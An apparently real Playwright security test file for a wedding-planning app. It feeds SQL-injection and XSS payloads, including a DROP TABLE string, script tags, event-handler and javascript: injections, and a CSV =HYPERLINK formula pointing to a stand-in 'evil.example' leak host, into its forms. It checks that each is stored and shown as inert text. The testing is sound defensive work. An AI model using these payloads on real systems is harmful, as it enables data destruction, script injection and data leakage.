import { expect, test, type Browser, type Page } from "@playwright/test";
import { asDatabaseAdmin, createAccount, createAdminAccount, signInAndEnroll } from "./helpers/admin";
import { ownerQuery } from "./helpers/db";
import { DEMO, signIn } from "./helpers/sign-in";

// The injection sweep (issue 7): every text input a planner, guest, vendor or
// admin can type into gets classic SQL-injection and XSS payloads. Each must
// be handled as plain data: no error page, no script runs in the browser (no
// window.__xss, no dialog, no injected element), the payload is shown back as
// literal text where the app displays it, and no row changes beyond the ones
// this spec creates.
//
// As planner1, on a wedding that no other spec picks (see findWedding); the
// vendor is an account and business of this spec's own, so the demo florist's
// unread counts (vendor-portal.spec.ts) never move under another spec.

const SQL = [`' OR '1'='1`, `'; DROP TABLE guest; --`, `1; SELECT pg_sleep(5)--`, `" OR ""="`, `admin'--`, `%' AND 1=1 --`];
const XSS = [
  `<script>window.__xss=1</script>`,
  `<img src=x onerror="window.__xss=1">`,
  `"><svg onload=window.__xss=1>`,
  `javascript:window.__xss=1`,
  `{{7*7}}`,
  `</textarea><script>window.__xss=1</script>`,
];
const PAYLOADS = [...SQL, ...XSS];

const RUN = `${Date.now().toString(36)}${Math.floor(Math.random() * 1e4)}`;
const WEDDING_TABLES = ["guest", "household", "event", "budget", "expense", "booking", "payment"] as const;
type TTable = (typeof WEDDING_TABLES)[number] | "users" | "vendor";
type Counts = Record<TTable, number>;

type Wedding = { id: number; name: string; date: string };
let wedding: Wedding;
let maxIds: { users: number; vendor: number };

/**
 * A wedding of planner1 taking RSVPs that no other spec writes to: not
 * over budget (overview, cockpit), not the latest (gdpr), not the first two
 * (web-security, http-matrix), not the next two upcoming (vendor-portal), not
 * the one with the fewest expected guests (booking-race; this spec only adds).
 */
async function findWedding(): Promise<Wedding> {
  const [row] = await ownerQuery<{ wedding_id: number; wedding_name: string; date: string }>(
    `WITH mine AS (
       SELECT w.* FROM wedding w JOIN planner p USING (planner_id) JOIN users u ON u.user_id = p.user_id
        WHERE lower(u.email) = lower($1)),
     taken AS (
       SELECT m.wedding_id FROM mine m
        WHERE (SELECT coalesce(sum(actual_cost), 0) FROM expense x WHERE x.wedding_id = m.wedding_id AND x.status = 'Approved')
            > (SELECT coalesce(sum(budget_amount), 0) FROM budget b WHERE b.wedding_id = m.wedding_id)
       UNION (SELECT wedding_id FROM mine ORDER BY wedding_date DESC, wedding_id DESC LIMIT 1)
       UNION (SELECT wedding_id FROM mine ORDER BY wedding_id LIMIT 2)
       UNION (SELECT wedding_id FROM mine WHERE status IN ('Planning', 'Confirmed') AND wedding_date > current_date
               ORDER BY wedding_date, wedding_id LIMIT 2)
       UNION (SELECT m.wedding_id FROM mine m WHERE m.status IN ('Planning', 'Confirmed')
               ORDER BY greatest(m.guest_count_target,
                          (SELECT count(*) FROM guest g WHERE g.wedding_id = m.wedding_id)
                          + (SELECT coalesce(sum(h.plus_one_allowance), 0) FROM household h WHERE h.wedding_id = m.wedding_id)),
                        m.wedding_id LIMIT 1))
     SELECT wedding_id, wedding_name, wedding_date::text AS date FROM mine
      WHERE wedding_id NOT IN (SELECT wedding_id FROM taken)
      ORDER BY (rsvp_deadline >= (now() AT TIME ZONE 'UTC')::date) DESC, wedding_id DESC LIMIT 1`,
    [DEMO.planner1.email],
  );
  if (!row) throw new Error("The e2e database has no wedding of planner1 that other specs leave alone.");
  return { id: row.wedding_id, name: row.wedding_name, date: row.date };
}

/** Rows of the wedding's tables, and of the accounts and vendors that existed when the spec began. */
async function counts(): Promise<Counts> {
  const perWedding = WEDDING_TABLES.map((t) => `(SELECT count(*)::int FROM ${t} WHERE wedding_id = $1) AS ${t}`);
  const [row] = await ownerQuery<Counts>(
    `SELECT ${perWedding.join(", ")},
            (SELECT count(*)::int FROM users WHERE user_id <= $2) AS users,
            (SELECT count(*)::int FROM vendor WHERE vendor_id <= $3) AS vendor`,
    [wedding.id, maxIds.users, maxIds.vendor],
  );
  return row!;
}

async function expectOnlyAdded(before: Counts, added: Partial<Counts> = {}): Promise<void> {
  const expected = { ...before };
  for (const [table, n] of Object.entries(added) as [TTable, number][]) expected[table] += n;
  expect(await counts()).toEqual(expected);
}

/** Records every dialog a page opens: alert(), confirm() from an injected script would land here. */
function watch(page: Page): string[] {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return dialogs;
}

/** No error page, the page's own heading, no script ran, no injected element. */
async function expectSafe(page: Page, heading: string | RegExp, dialogs: string[], what: string): Promise<void> {
  await expect(page.getByRole("heading", { level: 1, name: heading }), what).toBeVisible();
  await expect(page.getByText("Something went wrong"), what).toHaveCount(0);
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss), what).toBeUndefined();
  await expect(page.locator("[onerror], [onload], a[href^='javascript:']"), what).toHaveCount(0);
  expect(dialogs, what).toEqual([]);
}

async function expectNotError(response: { status(): number } | null, what: string): Promise<void> {
  expect(response?.status() ?? 0, what).toBeLessThan(500);
}

function csvCell(value: string): string {
  return `"${value.replace(/"/g, '""')}"`;
}

let planner: Page;
let plannerDialogs: string[];

test.describe.configure({ mode: "serial" });

test.beforeAll(async ({ browser }, testInfo) => {
  testInfo.setTimeout(60_000);
  wedding = await findWedding();
  const [ids] = await ownerQuery<{ users: number; vendor: number }>(
    `SELECT (SELECT coalesce(max(user_id), 0)::int FROM users) AS users,
            (SELECT coalesce(max(vendor_id), 0)::int FROM vendor) AS vendor`,
  );
  maxIds = ids!;
  const context = await browser.newContext({ baseURL: testInfo.project.use.baseURL });
  planner = await context.newPage();
  plannerDialogs = watch(planner);
  await signIn(planner, DEMO.planner1.email, DEMO.planner1.password);
});

test.afterAll(async () => {
  await planner?.context().close();
  // The rows this spec made in the wedding, so reruns start from the same data.
  const like = `%${RUN}%`;
  await ownerQuery(`DELETE FROM expense WHERE wedding_id = $1 AND description LIKE $2`, [wedding.id, like]);
  await ownerQuery(`DELETE FROM budget WHERE wedding_id = $1 AND category LIKE $2`, [wedding.id, like]);
  await ownerQuery(
    `DELETE FROM event_rsvp WHERE wedding_id = $1
        AND guest_id IN (SELECT guest_id FROM guest WHERE wedding_id = $1 AND full_name LIKE $2)`,
    [wedding.id, like],
  );
  await ownerQuery(`DELETE FROM event_rsvp WHERE wedding_id = $1 AND event_id IN (SELECT event_id FROM event WHERE name LIKE $2)`, [
    wedding.id,
    like,
  ]);
  await ownerQuery(`DELETE FROM guest WHERE wedding_id = $1 AND full_name LIKE $2`, [wedding.id, like]);
  await ownerQuery(`DELETE FROM household WHERE wedding_id = $1 AND name LIKE $2`, [wedding.id, like]);
  await ownerQuery(`DELETE FROM event WHERE wedding_id = $1 AND name LIKE $2`, [wedding.id, like]);
});

test("vendor search and its filters, by the form and by the address", async () => {
  test.setTimeout(120_000);
  const before = await counts();
  for (const payload of PAYLOADS) {
    await planner.goto("/vendors");
    const search = planner.getByRole("search", { name: "Find vendors" });
    await search.getByLabel("Search").fill(payload);
    await search.getByRole("button", { name: "Search" }).click();
    await planner.waitForURL((url) => url.pathname === "/vendors" && url.searchParams.get("q") === payload);
    await expectSafe(planner, "Vendors", plannerDialogs, `vendor search ${payload}`);
    await expect(search.getByLabel("Search")).toHaveValue(payload);

    const p = encodeURIComponent(payload);
    const response = await planner.goto(`/vendors?q=${p}&category=${p}&region=${p}&band=${p}&status=${p}&page=${p}`);
    await expectNotError(response, `vendor filters ${payload}`);
    await expectSafe(planner, "Vendors", plannerDialogs, `vendor filters ${payload}`);
    await expect(search.getByLabel("Search")).toHaveValue(payload);
  }
  await expectOnlyAdded(before);
});

test("the weddings cockpit search and its address", async () => {
  test.setTimeout(120_000);
  const before = await counts();
  for (const payload of PAYLOADS) {
    await planner.goto("/weddings");
    await planner.getByRole("searchbox", { name: "Search" }).fill(payload);
    await planner.getByRole("button", { name: "Apply" }).click();
    await expect.poll(() => new URL(planner.url()).searchParams.get("q")).toBe(payload);
    await expectSafe(planner, "Weddings", plannerDialogs, `cockpit search ${payload}`);
    await expect(planner.getByRole("searchbox", { name: "Search" })).toHaveValue(payload);

    const p = encodeURIComponent(payload);
    const response = await planner.goto(`/weddings?q=${p}&status=${p}&sort=${p}&dir=${p}&size=${p}&page=${p}`);
    await expectNotError(response, `cockpit address ${payload}`);
    await expectSafe(planner, "Weddings", plannerDialogs, `cockpit address ${payload}`);
  }
  await expectOnlyAdded(before);
});

test("the guest list search and filters", async () => {
  test.setTimeout(120_000);
  const before = await counts();
  for (const payload of PAYLOADS) {
    await planner.goto(`/weddings/${wedding.id}/guests`);
    await planner.getByRole("searchbox", { name: "Search" }).fill(payload);
    await planner.getByRole("button", { name: "Apply filters" }).click();
    await expect.poll(() => new URL(planner.url()).searchParams.get("q")).toBe(payload);
    await expectSafe(planner, "Guests", plannerDialogs, `guest search ${payload}`);
    await expect(planner.getByRole("searchbox", { name: "Search" })).toHaveValue(payload);

    const p = encodeURIComponent(payload);
    const response = await planner.goto(
      `/weddings/${wedding.id}/guests?q=${p}&event=${p}&status=${p}&sort=${p}&dir=${p}&page=${p}`,
    );
    await expectNotError(response, `guest filters ${payload}`);
    await expectSafe(planner, "Guests", plannerDialogs, `guest filters ${payload}`);
  }
  await expectOnlyAdded(before);
});

test("households and guests: names and dietary notes are stored as typed; a payload as email is refused", async () => {
  test.setTimeout(180_000);
  const before = await counts();
  const tag = `${RUN}g`;
  const households = PAYLOADS.map((p, i) => `${p} ${tag}${i}`);
  const guests = PAYLOADS.map((p, i) => `${p} ${tag}${i}`);
  await planner.goto(`/weddings/${wedding.id}/guests`);

  const addHousehold = planner.getByRole("form", { name: "Add a household" });
  for (const name of households) {
    await addHousehold.getByLabel("Household name").fill(name);
    await addHousehold.getByLabel("Plus-one allowance").fill("0");
    await addHousehold.getByRole("button", { name: "Add household" }).click();
    await expect(addHousehold.getByRole("status").filter({ hasText: `Added the household ${name}.` })).toBeVisible();
    await expectSafe(planner, "Guests", plannerDialogs, `household ${name}`);
  }

  const addGuest = planner.getByRole("form", { name: "Add a guest" });
  for (const [i, payload] of PAYLOADS.entries()) {
    const name = guests[i]!;
    await addGuest.getByLabel("Full name").fill(name);
    await addGuest.getByLabel("Household").selectOption({ label: households[0]! });
    await addGuest.getByLabel("Dietary preference (optional)").fill(payload);
    // A payload is no email address: refused next to the field, nothing written, what was typed stays.
    await addGuest.getByLabel("Email (optional)").fill(payload);
    await addGuest.getByRole("button", { name: "Add guest" }).click();
    await expect(addGuest.getByLabel("Email (optional)")).toHaveAttribute("aria-invalid", "true");
    await expect(addGuest.getByText("Invalid email address, expected something like name@example.com.")).toBeVisible();
    await expect(addGuest.getByLabel("Full name")).toHaveValue(name);
    await expectSafe(planner, "Guests", plannerDialogs, `guest email ${payload}`);

    await addGuest.getByLabel("Email (optional)").fill("");
    await addGuest.getByRole("button", { name: "Add guest" }).click();
    await expect(addGuest.getByRole("status").filter({ hasText: `Added ${name}.` })).toBeVisible();
    await expectSafe(planner, "Guests", plannerDialogs, `guest ${name}`);
  }
  await expectOnlyAdded(before, { household: households.length, guest: guests.length });

  const stored = await ownerQuery<{ full_name: string; dietary_preference: string; email: string | null }>(
    `SELECT full_name, dietary_preference, email FROM guest WHERE wedding_id = $1 AND full_name LIKE $2 ORDER BY guest_id`,
    [wedding.id, `% ${tag}%`],
  );
  expect(stored).toEqual(PAYLOADS.map((p, i) => ({ full_name: guests[i], dietary_preference: p, email: null })));

  // Shown back as text in the list.
  await planner.goto(`/weddings/${wedding.id}/guests?q=${encodeURIComponent(tag)}&size=50`);
  await expectSafe(planner, "Guests", plannerDialogs, "guest list");
  const table = planner.getByRole("table", { name: /^Guests/ });
  for (const name of guests) await expect(table.getByText(name, { exact: false }).first()).toBeVisible();
});

test("budget lines and expenses keep the payloads as text", async () => {
  test.setTimeout(180_000);
  const before = await counts();
  await planner.goto(`/weddings/${wedding.id}/budget`);
  const lineForm = planner.getByRole("form", { name: "Add a budget line" });
  const expenseForm = planner.getByRole("form", { name: "Add an expense" });
  const categories = planner.getByRole("region", { name: "Budget per category" });
  const expenses = planner.getByRole("region", { name: "Expenses" });
  for (const [i, payload] of PAYLOADS.entries()) {
    // Zero budget and pending expenses: the wedding's totals (and the cockpit's over-budget flags) stay as they are.
    const category = `${payload} ${RUN}b${i}`;
    await lineForm.getByLabel("Category").fill(category);
    await lineForm.getByLabel(/^Budget/).fill("0");
    await lineForm.getByLabel("Notes (optional)").fill(payload);
    await lineForm.getByRole("button", { name: "Add budget line" }).click();
    await expect(lineForm.getByRole("status").filter({ hasText: `Added the budget line “${category}”.` })).toBeVisible();
    await expectSafe(planner, "Budget", plannerDialogs, `budget line ${payload}`);
    await expect(categories.getByRole("row").filter({ hasText: category })).toBeVisible();

    const description = `${payload} ${RUN}x${i}`;
    await expenseForm.getByLabel("Description").fill(description);
    await expenseForm.getByLabel("Category").fill(category);
    await expenseForm.getByLabel(/^Cost/).fill("1");
    await expenseForm.getByRole("button", { name: "Add expense" }).click();
    await expect(expenseForm.getByRole("status").filter({ hasText: "it waits for approval" })).toBeVisible();
    await expectSafe(planner, "Budget", plannerDialogs, `expense ${payload}`);
    await expect(expenses.getByRole("row").filter({ hasText: description })).toBeVisible();
  }
  await expectOnlyAdded(before, { budget: PAYLOADS.length, expense: PAYLOADS.length });

  await planner.reload();
  await expectSafe(planner, "Budget", plannerDialogs, "budget after reload");
  const stored = await ownerQuery<{ category: string; notes: string }>(
    `SELECT category, notes FROM budget WHERE wedding_id = $1 AND category LIKE $2 ORDER BY budget_id`,
    [wedding.id, `% ${RUN}b%`],
  );
  expect(stored).toEqual(PAYLOADS.map((p, i) => ({ category: `${p} ${RUN}b${i}`, notes: p })));
});

test("events keep name, region, location and notes as text", async () => {
  test.setTimeout(180_000);
  const before = await counts();
  await planner.goto(`/weddings/${wedding.id}/events`);
  const form = planner.getByRole("form", { name: "Add an event" });
  const names = PAYLOADS.map((p, i) => `${p} ${RUN}e${i}`);
  for (const [i, payload] of PAYLOADS.entries()) {
    await form.getByLabel("Name").fill(names[i]!);
    await form.getByLabel("Type").selectOption("Other");
    await form.getByLabel("Date").fill(wedding.date);
    await form.getByLabel("Region").fill(payload);
    await form.getByLabel("Starts").fill("07:00");
    await form.getByLabel("Ends").fill("07:30");
    await form.getByLabel("Location (optional)").fill(payload);
    await form.getByLabel("Run-of-show note (optional)").fill(payload);
    await form.getByRole("button", { name: "Add event" }).click();
    await expect(form.getByRole("status").filter({ hasText: `Added the event “${names[i]}”.` })).toBeVisible();
    await expectSafe(planner, "Events", plannerDialogs, `event ${payload}`);
  }
  await expectOnlyAdded(before, { event: PAYLOADS.length });

  await planner.reload();
  await expectSafe(planner, "Events", plannerDialogs, "events after reload");
  for (const name of names) await expect(planner.getByRole("heading", { name, exact: true })).toBeVisible();
  const stored = await ownerQuery<{ name: string; region: string; location: string; notes: string }>(
    `SELECT name, region, location, notes FROM event WHERE wedding_id = $1 AND name LIKE $2 ORDER BY event_id`,
    [wedding.id, `% ${RUN}e%`],
  );
  expect(stored).toEqual(PAYLOADS.map((p, i) => ({ name: names[i], region: p, location: p, notes: p })));
});

test("a CSV import whose cells carry payloads and formulas; the export neutralises the formulas", async () => {
  test.setTimeout(120_000);
  const before = await counts();
  const tag = `${RUN}c`;
  const formulas = [`=HYPERLINK("http://evil.example/?leak","Click")`, `+1+2`, `-2+3`, `@SUM(1,2)`];
  const rows = [
    ...PAYLOADS.map((p, i) => ({ household: `${p} ${tag}h`, name: `${p} ${tag}${i}`, dietary: p })),
    ...formulas.map((f, i) => ({ household: `Formula ${tag}h`, name: `${f} ${tag}f${i}`, dietary: f })),
  ];
  const lines = [
    "household,plus_one_allowance,full_name,email,phone,dietary_preference",
    ...rows.map((r) => [r.household, "", r.name, "", "", r.dietary].map(csvCell).join(",")),
  ];
  await planner.goto(`/weddings/${wedding.id}/guests/import`);
  await expectSafe(planner, "Import guests", plannerDialogs, "import page");
  const form = planner.getByRole("form", { name: "Import guests from a CSV file" });
  await form.getByLabel(/CSV file/).setInputFiles({
    name: "sweep.csv",
    mimeType: "text/csv",
    buffer: Buffer.from(`${lines.join("\r\n")}\r\n`, "utf8"),
  });
  await form.getByRole("button", { name: "Import guests" }).click();
  await expect(form.getByRole("status").filter({ hasText: `Imported: ${rows.length} guests added` })).toBeVisible();
  await expectSafe(planner, "Import guests", plannerDialogs, "import result");
  await expectOnlyAdded(before, { guest: rows.length, household: PAYLOADS.length + 1 });

  const stored = await ownerQuery<{ full_name: string; dietary_preference: string }>(
    `SELECT full_name, dietary_preference FROM guest WHERE wedding_id = $1 AND full_name LIKE $2 ORDER BY guest_id`,
    [wedding.id, `% ${tag}%`],
  );
  expect(stored).toEqual(rows.map((r) => ({ full_name: r.name, dietary_preference: r.dietary })));

  await planner.goto(`/weddings/${wedding.id}/guests?q=${encodeURIComponent(tag)}&size=50`);
  await expectSafe(planner, "Guests", plannerDialogs, "imported guest list");
  const table = planner.getByRole("table", { name: /^Guests/ });
  for (const r of rows) await expect(table.getByText(r.name, { exact: false }).first()).toBeVisible();

  // lib/guests/csv.ts guards formula cells on export with a leading apostrophe.
  const exported = await planner.request.get(`/weddings/${wedding.id}/guests/export`);
  expect(exported.status()).toBe(200);
  const body = await exported.text();
  for (const f of formulas) {
    expect(body).toContain(`'${f.replace(/"/g, '""')} ${tag}`);
    expect(body).not.toMatch(new RegExp(`(^|[,\\n])"?${f.slice(0, 4).replace(/[+@=()-]/g, "\\$&")}`, "m"));
  }
});

test("the RSVP page keeps dietary notes and plus-one names as text", async ({ browser }) => {
  test.setTimeout(180_000);
  // A household of two (the overview spec answers for single guests), invited to an event of this spec.
  const [fixture] = await ownerQuery<{ household_id: number; event_id: number; event_name: string }>(
    `WITH h AS (INSERT INTO household (wedding_id, name, plus_one_allowance) VALUES ($1, $2, 1) RETURNING household_id)
     SELECT h.household_id, e.event_id, e.name AS event_name FROM h,
            (SELECT event_id, name FROM event WHERE wedding_id = $1 AND name LIKE $3 ORDER BY event_id LIMIT 1) e`,
    [wedding.id, `RSVP sweep ${RUN}`, `% ${RUN}e%`],
  );
  if (!fixture) throw new Error("The events test made no event to invite the RSVP guests to.");
  const guestNames = [`Rhea Sweep ${RUN}`, `Ravi Sweep ${RUN}`];
  const tokens = await ownerQuery<{ guest_id: number; qr_code: string }>(
    `INSERT INTO guest (wedding_id, household_id, full_name) SELECT $1, $2, unnest($3::text[]) RETURNING guest_id, qr_code`,
    [wedding.id, fixture.household_id, guestNames],
  );
  await ownerQuery(
    `INSERT INTO event_rsvp (wedding_id, event_id, guest_id) SELECT $1, $2, unnest($3::int[])`,
    [wedding.id, fixture.event_id, tokens.map((t) => t.guest_id)],
  );
  const before = await counts();

  const context = await browser.newContext({ baseURL: test.info().project.use.baseURL });
  try {
    const page = await context.newPage();
    const dialogs = watch(page);
    for (const payload of PAYLOADS) {
      const response = await page.goto(`/rsvp/${tokens[0]!.qr_code}`);
      expect(response?.status()).toBe(200);
      const event = page.getByRole("group", { name: fixture.event_name, exact: true });
      for (const name of guestNames) {
        await event.getByRole("group", { name, exact: true }).getByRole("radio", { name: "Accept" }).check();
        await page.getByLabel(`Dietary needs for ${name}`).fill(payload);
      }
      await page.getByLabel(`Plus-one 1 name for ${fixture.event_name}`).fill(payload);
      await page.getByRole("button", { name: "Save answers" }).click();
      const confirmation = page.getByRole("status").filter({ hasText: "Thank you! Your answers are saved." });
      await expect(confirmation).toBeVisible();
      await expect(confirmation.getByText(payload, { exact: false }).first()).toBeVisible();
      await expectSafe(page, /./, dialogs, `rsvp ${payload}`);

      await page.reload();
      await expect(page.getByLabel(`Dietary needs for ${guestNames[0]}`)).toHaveValue(payload);
      await expect(page.getByLabel(`Plus-one 1 name for ${fixture.event_name}`)).toHaveValue(payload);
      await expectSafe(page, /./, dialogs, `rsvp reload ${payload}`);
      const [saved] = await ownerQuery<{ dietary_preference: string; plus_one_names: string[] }>(
        `SELECT g.dietary_preference, r.plus_one_names FROM guest g JOIN event_rsvp r USING (guest_id) WHERE g.guest_id = $1`,
        [tokens[0]!.guest_id],
      );
      expect(saved).toEqual({ dietary_preference: payload, plus_one_names: [payload] });
    }
  } finally {
    await context.close();
  }
  await expectOnlyAdded(before);
});

/** A vendor business and login of this spec's own. */
async function createVendor(): Promise<{ email: string; password: string; name: string }> {
  const account = { email: `sweep-vendor-${RUN}@e2e.test`, password: `sweep-vendor-${RUN}`, name: `Sweep Studio ${RUN}` };
  await createAccount(account, "Sweep Studio", "vendor");
  await asDatabaseAdmin((client) =>
    client.query(
      `INSERT INTO vendor (user_id, name, service_category, region, description)
       SELECT user_id, $2, 'Photography', 'Ohrid', 'Portraits by the lake.' FROM users WHERE email = $1`,
      [account.email, account.name],
    ),
  );
  return account;
}

async function vendorPage(browser: Browser, account: { email: string; password: string }) {
  const context = await browser.newContext({ baseURL: test.info().project.use.baseURL });
  const page = await context.newPage();
  const dialogs = watch(page);
  await signInAndEnroll(page, account);
  return { context, page, dialogs };
}

test("messages and proposal lines between planner and vendor are text on both sides", async ({ browser }) => {
  test.setTimeout(240_000);
  const vendor = await createVendor();
  const option = `${vendor.name} (Photography)`;
  const before = await counts();
  const validUntil = new Date(Date.now() + 14 * 86_400_000).toISOString().slice(0, 10);

  await planner.goto(`/weddings/${wedding.id}/vendors`);
  const write = planner.getByRole("form", { name: "Write to a vendor" });
  const send = planner.getByRole("form", { name: "Send a proposal" });
  for (const payload of PAYLOADS) {
    await write.getByLabel("Vendor", { exact: true }).selectOption({ label: option });
    await write.getByLabel("Message", { exact: true }).fill(payload);
    await write.getByRole("button", { name: "Send message" }).click();
    await expect(write.getByRole("status").filter({ hasText: `Sent to ${vendor.name}.` })).toBeVisible();
    await expectSafe(planner, /./, plannerDialogs, `planner message ${payload}`);

    await send.getByLabel("Vendor", { exact: true }).selectOption({ label: option });
    await send.getByLabel("Valid until").fill(validUntil);
    const line = send.getByRole("group", { name: "Line 1" });
    await line.getByLabel("Description").fill(payload);
    await line.getByLabel("Quantity").fill("1");
    await line.getByLabel(/Unit price/).fill("10");
    await send.getByRole("button", { name: "Send proposal" }).click();
    await expect(send.getByRole("status").filter({ hasText: `Sent ${vendor.name} a proposal` })).toBeVisible();
    await expectSafe(planner, /./, plannerDialogs, `proposal ${payload}`);
  }
  await planner.reload();
  for (const payload of PAYLOADS) {
    await expect(planner.getByRole("article").filter({ hasText: payload }).first()).toBeVisible();
  }

  const other = await vendorPage(browser, vendor);
  try {
    const { page, dialogs } = other;
    await page.goto("/vendor/proposals");
    await expectSafe(page, /./, dialogs, "vendor proposals");
    for (const payload of PAYLOADS) {
      await expect(page.getByRole("article").filter({ hasText: payload }).first()).toBeVisible();
    }
    await page.goto("/vendor/messages");
    await page.getByRole("link").filter({ hasText: wedding.name }).first().click();
    await expect(page.getByRole("heading", { level: 1, name: wedding.name })).toBeVisible();
    const messages = page.getByRole("list", { name: "Messages" });
    for (const payload of PAYLOADS) await expect(messages.getByText(payload, { exact: true }).first()).toBeVisible();
    await expectSafe(page, wedding.name, dialogs, "vendor thread");
    for (const payload of PAYLOADS) {
      await page.getByLabel("Reply to the planner").fill(`${payload} ${RUN}`);
      await page.getByRole("button", { name: "Send message" }).click();
      await expect(page.getByRole("status").filter({ hasText: "Sent to the planner." })).toBeVisible();
      await expect(messages.getByText(`${payload} ${RUN}`, { exact: true })).toBeVisible();
      await expectSafe(page, wedding.name, dialogs, `vendor reply ${payload}`);
    }
  } finally {
    await other.context.close();
  }
  const bodies = await ownerQuery<{ body: string }>(
    `SELECT m.body FROM message m JOIN message_thread t USING (thread_id) JOIN vendor v USING (vendor_id)
      WHERE v.name = $1 ORDER BY m.message_id`,
    [vendor.name],
  );
  expect(bodies.map((b) => b.body)).toEqual([...PAYLOADS, ...PAYLOADS.map((p) => `${p} ${RUN}`)]);
  // Messages and proposals are not among the counted tables; nothing counted moved.
  await expectOnlyAdded(before);
});

test("the admin audit filters", async ({ browser }) => {
  test.setTimeout(180_000);
  const admin = { email: `sweep-admin-${RUN}@e2e.test`, password: `sweep-admin-${RUN}-password` };
  await createAdminAccount(admin, "Sweep Auditor");
  const before = await counts();
  const context = await browser.newContext({ baseURL: test.info().project.use.baseURL });
  try {
    const page = await context.newPage();
    const dialogs = watch(page);
    await signInAndEnroll(page, admin);
    for (const payload of PAYLOADS) {
      await page.goto("/admin/audit");
      const filters = page.getByRole("form", { name: "Filter the audit log" });
      await filters.getByLabel("Actor").fill(payload);
      await filters.getByRole("button", { name: "Apply filters" }).click();
      await expect.poll(() => new URL(page.url()).searchParams.get("actor")).toBe(payload);
      await expectSafe(page, "Audit log", dialogs, `audit actor ${payload}`);
      await expect(filters.getByLabel("Actor")).toHaveValue(payload);

      const p = encodeURIComponent(payload);
      const response = await page.goto(
        `/admin/audit?actor=${p}&record=${p}&table=${p}&op=${p}&from=${p}&to=${p}&sort=${p}&dir=${p}&size=${p}`,
      );
      await expectNotError(response, `audit address ${payload}`);
      await expectSafe(page, "Audit log", dialogs, `audit address ${payload}`);
      const exported = await page.request.get(`/admin/audit/export?actor=${p}&record=${p}&table=${p}&op=${p}`);
      expect(exported.status(), `audit export ${payload}`).toBeLessThan(500);
    }
  } finally {
    await context.close();
  }
  await expectOnlyAdded(before);
});
